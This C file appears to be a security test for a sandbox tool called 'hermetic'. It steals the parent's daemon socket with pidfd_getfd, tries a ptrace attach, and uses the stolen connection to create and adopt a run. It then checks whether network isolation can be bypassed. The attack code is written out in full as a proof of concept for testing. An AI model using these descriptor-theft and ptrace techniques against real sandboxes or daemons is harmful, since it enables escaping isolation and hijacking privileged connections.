// SPDX-License-Identifier: MIT
/*
 * "Take enroll's own daemon connection" (issue 10): run as a run's command,
 * this takes descriptors from its parent, `hermetic enroll` (same uid, no
 * Yama), with pidfd_getfd, looks for the daemon connection among them,
 * and with it creates a run with the network off and has a child of its
 * own adopted into it (the child asks on a connection of its own, as the
 * protocol wants). Then the child tries the test host.
 *
 *   steal_conn HOST PORT [PID]      (PID: whose descriptors; default the parent)
 *
 * Prints one line per step: "getfd: EPERM", "getfd: got N descriptors,
 * socket fd F", "ptrace: EPERM|OK", "create: ERR errno msg | OK run ID",
 * "adopt: ERR errno msg | OK", "connect: REFUSED errno | CONNECTED".
 * "CONNECTED" means the attack worked.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include "proto.h"

static char buf[HM_MSG_MAX];

/* One request; returns the reply type, or prints the error and returns -1. */
static int call(int s, const char *what, uint16_t type, const void *p, uint32_t len, void **ret)
{
	struct hm_hdr *h;
	int fd = -1;
	ssize_t n;

	if (hm_send(s, type, 9, p, len, -1) < 0 || (n = hm_recv(s, buf, sizeof(buf), &h, &fd)) < 0) {
		printf("%s: transport error\n", what);
		return -1;
	}
	if (fd >= 0)
		close(fd);
	if (h->type == HM_REP_ERROR) {
		struct hm_error *e = (void *)(h + 1);

		printf("%s: ERR %d %s\n", what, e->err, e->msg);
		return -1;
	}
	if (ret)
		*ret = h + 1;
	return h->type;
}

static void try_host(const char *host, int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_STREAM, 0);

	inet_pton(AF_INET, host, &sa.sin_addr);
	if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) == 0)
		printf("connect: CONNECTED\n");
	else
		printf("connect: REFUSED %d\n", errno);
	close(s);
}

int main(int argc, char **argv)
{
	pid_t target = argc > 3 ? atoi(argv[3]) : getppid();
	int pidfd = syscall(SYS_pidfd_open, target, 0), sock = -1, got = 0, errs = 0, last = 0;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc < 3)
		return 2;
	if (pidfd < 0) {
		printf("pidfd_open: %s\n", strerror(errno));
		return 2;
	}
	for (int n = 0; n < 256; n++) {
		int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0);
		struct stat st;

		if (fd < 0) {
			if (errno != EBADF)
				errs++, last = errno;
			continue;
		}
		got++;
		/* A SEQPACKET unix socket is the daemon connection. */
		int type = 0;
		socklen_t l = sizeof(type);
		if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode) &&
		    getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &l) == 0 && type == SOCK_SEQPACKET)
			sock = fd;
	}
	if (!got)
		printf("getfd: %s (%d refusals)\n", errs ? strerrorname_np(last) : "nothing", errs);
	else
		printf("getfd: got %d descriptors, socket fd %d\n", got, sock);
	if (ptrace(PTRACE_ATTACH, target, 0, 0) == 0) {
		printf("ptrace: OK\n");
		/* Detaching needs the tracee stopped; then it runs on. */
		waitpid(target, NULL, __WALL);
		ptrace(PTRACE_DETACH, target, 0, 0);
	} else {
		printf("ptrace: %s\n", strerrorname_np(errno));
	}
	if (sock < 0) {
		try_host(argv[1], atoi(argv[2]));
		return 0;
	}

	/* The attack proper: a run without network, through enroll's connection. */
	struct hm_run_create c = { .flags = 0 };
	struct hm_run *run;
	snprintf(c.label, sizeof(c.label), "stolen");
	if (call(sock, "create", HM_REQ_RUN_CREATE, &c, sizeof(c), (void **)&run) != HM_REP_RUN) {
		try_host(argv[1], atoi(argv[2]));
		return 0;
	}
	printf("create: OK run %llu\n", (unsigned long long)run->run_id);
	uint64_t id = run->run_id;
	/* Our child asks to be adopted, on its own connection. */
	pid_t kid = fork();
	if (kid == 0) {
		struct sockaddr_un sa = { .sun_family = AF_UNIX };
		struct hm_run_ref ref = { id };
		int s = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);

		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", getenv("HERMETIC_SOCKET"));
		if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
			printf("adopt: cannot connect: %s\n", strerror(errno));
			_exit(1);
		}
		if (call(s, "adopt", HM_REQ_RUN_ADOPT, &ref, sizeof(ref), NULL) == HM_REP_OK)
			printf("adopt: OK\n");
		try_host(argv[1], atoi(argv[2]));
		_exit(0);
	}
	waitpid(kid, NULL, 0);
	return 0;
}
